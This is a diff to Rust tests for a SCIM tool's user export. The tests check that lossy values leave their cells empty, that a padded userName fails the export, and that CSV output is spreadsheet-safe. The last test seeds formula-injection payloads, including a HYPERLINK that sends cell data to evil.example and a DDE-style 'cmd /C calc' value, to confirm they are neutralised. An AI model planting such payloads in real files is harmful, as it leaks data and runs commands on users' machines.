@@ -1,6 +1,6 @@
 //! `scim export users`, and reading the export back with `scim check`.
 
-use crate::common::{on, org, requests, run, scim, temp_file};
+use crate::common::{add_members, on, org, requests, run, scim, seed, temp_file};
 use serde_json::json;
 
 #[test]
@@ -14,7 +14,7 @@ fn export_writes_every_user_in_the_people_file_format() {
             "userName,displayName,externalId,active,title,department,division,employeeNumber,email,phone,manager,groups",
             "admin@example.com,Admin,,true,,,,,,,,Support",
             "bob@example.com,Bob Boss,E-2,true,Manager,,EMEA,,,,,",
-            "jane@example.com,Jane Doe,E-1,true,Agent,Support,EMEA,0042,jane@example.com,+15550100,bob@example.com,Support",
+            "jane@example.com,Jane Doe,E-1,true,Agent,Support,EMEA,0042,jane@example.com,'+15550100,bob@example.com,Support",
             "old@example.com,Old Timer,E-3,false,,,,,,,,",
         ]
     );
@@ -72,21 +72,172 @@ fn an_export_reads_back_as_a_valid_people_file() {
 }
 
 #[test]
-fn a_user_the_format_cannot_hold_is_reported_and_the_rest_exported() {
+fn values_the_format_cannot_hold_leave_their_cell_empty_and_every_person_is_exported() {
+    let server = scim_fake::FakeServer::builder()
+        .seed_groups(vec!["Support", "R;D"])
+        .start()
+        .unwrap();
+    let plain = seed(
+        &server,
+        json!({"userName": "plain@example.com", "displayName": "Plain", "externalId": "E-1"}),
+    );
+    seed(
+        &server,
+        json!({"userName": "marker@example.com", "displayName": "<clear>", "title": "<clear>",
+               "externalId": "E-2"}),
+    );
+    let semi = seed(
+        &server,
+        json!({"userName": "semi@example.com", "displayName": "Semi", "externalId": "E-3",
+               "emails": [{"value": "not an address", "type": "work"}]}),
+    );
+    add_members(&server, "R;D", &[&semi]);
+    add_members(&server, "Support", &[&semi, &plain]);
+    for format in ["csv", "jsonl"] {
+        let r = on(&server, &["export", "users", "--output", format]);
+        assert_eq!(r.code, 0, "{format}: {r:?}");
+        assert_eq!(
+            r.stdout.lines().count(),
+            3 + usize::from(format == "csv"),
+            "{r:?}"
+        );
+        for name in [
+            "plain@example.com",
+            "marker@example.com",
+            "semi@example.com",
+        ] {
+            assert!(
+                r.stdout.contains(name),
+                "{format}: {name} missing: {}",
+                r.stdout
+            );
+        }
+        for (user, column) in [
+            ("marker@example.com", "displayName"),
+            ("marker@example.com", "title"),
+            ("semi@example.com", "email"),
+        ] {
+            let warning = format!("warning: {user}: the {column} cell is left empty");
+            assert!(
+                r.stderr.contains(&warning),
+                "{format}: {warning}: {}",
+                r.stderr
+            );
+        }
+        // JSON Lines can hold a group name with `;`; CSV cannot.
+        let groups = "warning: semi@example.com: the groups cell is left empty";
+        assert_eq!(
+            r.stderr.contains(groups),
+            format == "csv",
+            "{format}: {}",
+            r.stderr
+        );
+        assert!(r.stderr.contains("exported 3 users"), "{}", r.stderr);
+        // What was written reads back: an empty cell leaves the value alone.
+        let path = temp_file(&format!("lossy.{format}"));
+        std::fs::write(&path, &r.stdout).unwrap();
+        let check = run(scim().arg("check").arg(&path));
+        assert_eq!(check.code, 0, "{format}: {check:?}\n{}", r.stdout);
+        assert!(check.stdout.contains("3 people"), "{}", check.stdout);
+    }
+}
+
+#[test]
+fn a_user_without_a_usable_user_name_is_still_written_and_fails_the_export() {
     let org = org();
-    crate::common::seed(
+    seed(
         &org.server,
-        json!({"userName": "odd@example.com", "title": "<clear>"}),
+        json!({"userName": " padded@example.com ", "displayName": "Padded"}),
     );
     let r = on(&org.server, &["export", "users"]);
     assert_eq!(r.code, 1, "{r:?}");
-    assert_eq!(r.stdout.lines().count(), 1 + 4, "{}", r.stdout);
-    assert!(!r.stdout.contains("odd@example.com"));
+    assert_eq!(r.stdout.lines().count(), 1 + 5, "{}", r.stdout);
+    assert!(r.stdout.contains(" padded@example.com "), "{}", r.stdout);
     assert!(
         r.stderr
-            .contains("cannot export `odd@example.com`: its title"),
+            .contains("error: ` padded@example.com `: the userName has spaces at its ends"),
         "{}",
         r.stderr
     );
-    assert!(r.stderr.contains("1 of 5 items failed"), "{}", r.stderr);
+    // The file is refused as a feed, so it cannot deactivate anyone.
+    let path = temp_file("padded.csv");
+    std::fs::write(&path, &r.stdout).unwrap();
+    assert_eq!(run(scim().arg("check").arg(&path)).code, 2);
+}
+
+#[test]
+fn csv_exports_are_spreadsheet_safe_and_read_back_the_same() {
+    let org = org();
+    let formula = r#"=HYPERLINK("http://evil.example/?d="&A2,"open")"#;
+    seed(
+        &org.server,
+        json!({"userName": "formula@example.com", "displayName": formula, "externalId": "E-9",
+        "title": "+cmd|' /C calc'!A0",
+        "phoneNumbers": [{"value": "+15550199", "type": "work"}],
+        "urn:ietf:params:scim:schemas:extension:enterprise:2.0:User": {
+            "department": "@SUM(1+1)", "division": "-EMEA", "employeeNumber": "\t0042"
+        }}),
+    );
+    seed(
+        &org.server,
+        json!({"userName": "quote@example.com", "displayName": "'=A1", "externalId": "E-10",
+               "title": "'Connor",
+               "urn:ietf:params:scim:schemas:extension:enterprise:2.0:User": {"department": "\rCR"}}),
+    );
+    let r = on(&org.server, &["export", "users"]);
+    assert_eq!(r.code, 0, "{r:?}");
+    let mut reader = csv::Reader::from_reader(r.stdout.as_bytes());
+    let headers = reader.headers().unwrap().clone();
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    let cell = |user: &str, column: &str| -> String {
+        let at = headers.iter().position(|h| h == column).unwrap();
+        let row = rows.iter().find(|r| &r[0] == user).unwrap();
+        row[at].to_owned()
+    };
+    // A spreadsheet shows these as text, not as formulas or numbers.
+    assert_eq!(
+        cell("formula@example.com", "displayName"),
+        format!("'{formula}")
+    );
+    assert_eq!(cell("formula@example.com", "title"), "'+cmd|' /C calc'!A0");
+    assert_eq!(cell("formula@example.com", "department"), "'@SUM(1+1)");
+    assert_eq!(cell("formula@example.com", "division"), "'-EMEA");
+    assert_eq!(cell("formula@example.com", "employeeNumber"), "'\t0042");
+    assert_eq!(cell("formula@example.com", "phone"), "'+15550199");
+    assert_eq!(cell("jane@example.com", "phone"), "'+15550100");
+    assert_eq!(cell("quote@example.com", "department"), "'\rCR");
+    // A leading `'` is doubled only where reading would drop it.
+    assert_eq!(cell("quote@example.com", "displayName"), "''=A1");
+    assert_eq!(cell("quote@example.com", "title"), "'Connor");
+    for row in &rows {
+        for value in row {
+            assert!(
+                !value.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{value:?} in {row:?}"
+            );
+        }
+    }
+    // Reading the file back gives the org's values: nothing to change.
+    let path = temp_file("formulas.csv");
+    std::fs::write(&path, &r.stdout).unwrap();
+    org.server.clear_journal();
+    let plan = on(
+        &org.server,
+        &[
+            "sync",
+            "plan",
+            "--scope",
+            "all",
+            "--from",
+            path.to_str().unwrap(),
+        ],
+    );
+    assert_eq!(plan.code, 0, "{plan:?}");
+    assert!(
+        plan.stdout
+            .contains("Nothing to do: the org already matches the file"),
+        "{}",
+        plan.stdout
+    );
+    assert!(requests(&org.server).iter().all(|r| r.starts_with("GET")));
 }
